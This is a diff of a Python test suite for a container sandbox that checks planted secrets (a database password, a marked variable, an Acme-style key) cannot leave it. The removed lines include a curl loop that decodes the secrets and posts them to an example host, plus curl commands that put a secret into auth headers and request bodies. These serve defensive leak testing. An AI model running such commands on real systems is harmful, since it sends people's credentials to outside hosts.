@@ -4,24 +4,10 @@ nowhere else."""
 import base64
 import json
 import os
-import time
 
+from attacks import ECHOES
 from look import make_file, running
-from operators import Session
-
-
-def files_with(needle, *roots):
-    found = []
-    for root in roots:
-        for folder, _, names in os.walk(root):
-            for name in names:
-                path = os.path.join(folder, name)
-                try:
-                    if os.path.isfile(path) and needle in open(path, "rb").read(64 << 20):
-                        found.append(path)
-                except OSError:
-                    pass
-    return found
+from values import RULE, SEND_ALL, check_nothing_left, files_with, start_with, what_must_not_leave
 
 
 def test_the_token_appears_nowhere(world, operator, until):
@@ -43,47 +29,14 @@ def test_the_token_appears_nowhere(world, operator, until):
         except OSError:
             continue
     assert allowed_to_have_it <= {"bottle", "nsenter"}, allowed_to_have_it
-    assert files_with(token, operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "volumes")) == []
+    assert files_with([token], operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "volumes")) == []
     [agent] = [c["Id"] for c in world.engine("GET", "/containers/json") if c["Labels"].get("bottle.role") == "agent"]
     make_file(world, agent, "/tmp/go")
     out, err = process.communicate(timeout=360)
     assert process.returncode == 3, (out, err)
     assert world.token not in out + err
-    assert files_with(token, operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "image")) == []
-    assert files_with(token, operator.workspace) == []
-
-
-RULE = "[acme-key]\nis: an Acme key\npattern: acme_[a-z0-9]{20}\nyes: acme_<base36 20>\nno: acme_1\n"
-
-
-def what_must_not_leave(operator):
-    """Returns the values and the bottle's keys. One value is from a file, one from a variable, and one matches a rule
-    of the operator."""
-    values = {"prod.env:DB_PASSWORD": os.urandom(12).hex() + "Zq", "MARKED": os.urandom(12).hex() + "Zq", "acme-key": "acme_" + os.urandom(10).hex()}
-    for name, text in (("prod.env", "DB_PASSWORD=%s\nNODE_ENV=development\n" % values["prod.env:DB_PASSWORD"]), ("acme.rules", RULE)):
-        with open(os.path.join(operator.home, name), "w") as file:
-            file.write(text)
-        os.chmod(file.name, 0o600)
-    known = {"value": "${MARKED_HERE}", "secret": True}
-    encoded = " ".join(base64.b64encode(value.encode()).decode() for value in (*values.values(), "development"))
-    return values, {"scan": {"secrets": ["~/prod.env"], "rules": ["~/acme.rules"]}, "env": {"MARKED": known, "ENCODED": encoded}}
-
-
-SEND_ALL = "for e in $ENCODED; do curl -sS -m 20 -o /dev/null -w 'status %{http_code}\\n' -d \"x=$(echo $e | base64 -d)\" http://allowed.example.org/; done"
-
-
-def start_with(operator, script, *args, variables, **config):
-    since = time.time()
-    done = operator.bottle("start", "a", "--yes", "--headless", "-p", '[ "$BOTTLE_TEST" = inside ] || exit 99\n' + script, *args,
-                           config=operator.config(**config), env=variables, timeout=300)
-    return Session(done, operator, since)
-
-
-def check_nothing_left(session, values):
-    assert session.out.count("status 403") == 3 and session.out.count("status 200") == 1, session.explain()
-    audit = session.audit()
-    assert {line.get("secret") or line.get("rule") for line in audit if line.get("code") == "secret"} == set(values), audit
-    assert not any(value in str(audit) + session.out + session.err for value in values.values())
+    assert files_with([token], operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "image")) == []
+    assert files_with([token], operator.workspace) == []
 
 
 def test_listed_secrets_do_not_leave(world, operator):
@@ -93,7 +46,7 @@ def test_listed_secrets_do_not_leave(world, operator):
     check_nothing_left(session, values)
     value = values["prod.env:DB_PASSWORD"].encode()
     places = [operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "volumes")]
-    assert files_with(value, *places) == [os.path.join(operator.home, "prod.env")]
+    assert files_with([value], *places) == [os.path.join(operator.home, "prod.env")]
     shown = operator.bottle("start", "a", "--dry-run", config=operator.config(**config), env=env)
     assert "for the values of" in shown.stdout + shown.stderr and "MARKED (from MARKED_HERE) (must not leave)" in shown.stdout + shown.stderr
 
@@ -132,11 +85,7 @@ def test_a_bound_secret_reaches_only_its_host(world, operator):
     assert value not in str(session.audit())
 
 
-# An endpoint that echoes what it was sent, as JSON.
-ECHO = 'curl -sS -m 20 -w " %%{http_code}\\n" %s https://inspected.example.org/echo; '
 ECHOED_SECRET = {"mine": {"from": "env:MINE", "hosts": ["inspected.example.org"], "env": "MINE", "in": ["header", "body"]}}
-ECHOES = (ECHO % '-u "me:$MINE"' + ECHO % '-H "Authorization: Bearer $MINE"' + ECHO % '-H "X-Trace: Basic $(printf "%szz" "$MINE" | base64 -w0)"' +
-          ECHO % '-H "Content-Type: application/json" -d "{\\"key\\":\\"$MINE\\"}"' + ECHO % '-d hello')
 
 
 def test_a_bound_secret_does_not_come_back(world, operator):
